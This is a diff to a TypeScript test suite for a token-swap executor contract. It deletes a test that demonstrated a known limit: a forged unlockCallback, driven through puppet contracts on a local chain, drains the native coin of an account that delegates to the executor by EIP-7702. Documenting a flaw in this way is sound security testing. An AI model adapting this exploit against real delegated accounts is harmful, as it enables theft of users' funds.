@@ -1,7 +1,6 @@
 import {
   type Address,
   decodeFunctionResult,
-  encodeAbiParameters,
   encodeFunctionData,
   type Hex,
   maxUint256,
@@ -250,49 +249,5 @@ test('tokens and coin that others leave in the executor change no other executio
     expect((await heldByExecutor(chain)).sort()).toEqual(
       [`${numberToHex(amountIn)} native`, '1000000 USDC', '1000000 WETH'].sort(),
     );
-  });
-});
-
-// Documented: the executor's code must not be an account's own code.
-test('known limit: an account that delegates to the executor by EIP-7702 loses its native coin to anyone', async () => {
-  await byVictim.restored(async () => {
-    const [manager, coin, token] = [
-      await placePuppet(byAttacker, 0xe1),
-      await placePuppet(byAttacker, 0xe2),
-      await placePuppet(byAttacker, 0xe3),
-    ];
-    await byVictim.node.call('anvil_setCode', [victim, `0xef0100${executorAddress.slice(2)}`]);
-    const stolen = parseUnits('100', 18);
-    const [tokenIn, tokenOut] = [token.address, coin.address];
-    const legs = [{ kind: kinds.v4Native, pool: manager.address, tokenIn, tokenOut, fee: 0n }];
-    const leg = [kinds.v4Native, manager.address, tokenIn, tokenOut, 0n, 0n, zeroAddress, 10_000n] as const;
-    const unlocked = encodeAbiParameters(
-      [
-        ...(['uint256', 'address', 'address', 'address', 'uint256', 'int256', 'address', 'uint256'] as const).map(
-          (type) => ({ type }),
-        ),
-        { type: 'uint256' },
-        { type: 'address' },
-      ],
-      [...leg, 1n, attacker] as never,
-    );
-    const callback = encodeFunctionData({
-      abi: executorArtifact.abi,
-      functionName: 'unlockCallback',
-      args: [unlocked],
-    });
-    await manager.teach('unlock(bytes)', [{ to: victim, data: callback }]);
-    // The coin is currency0: its delta is in the upper half.
-    const swapV4 = 'swap((address,address,uint24,int24,address),(bool,int256,uint160),bytes)';
-    await manager.teach(swapV4, [], words((stolen << 128n) | BigInt.asUintN(128, -1n)));
-    await token.teach('balanceOf(address)', [], words(10n ** 30n));
-    await token.teach('transferFrom(address,address,uint256)', [], words(1n));
-    await coin.teach('balanceOf(address)', [], words(0n));
-    await coin.teach('deposit()', [coin.replyLater('balanceOf(address)', words(stolen))]);
-    await coin.teach('transfer(address,uint256)', [], words(1n));
-    const plan = { tokenIn, tokenOut, amountIn: 1n, native: tokenOut, legs };
-    const { data } = executeCall({ plan, to: attacker });
-    expect((await byAttacker.send({ to: victim, data })).ok).toBe(true);
-    expect(BigInt(await byVictim.node.call<Hex>('eth_getBalance', [coin.address, 'latest']))).toBe(stolen);
   });
 });
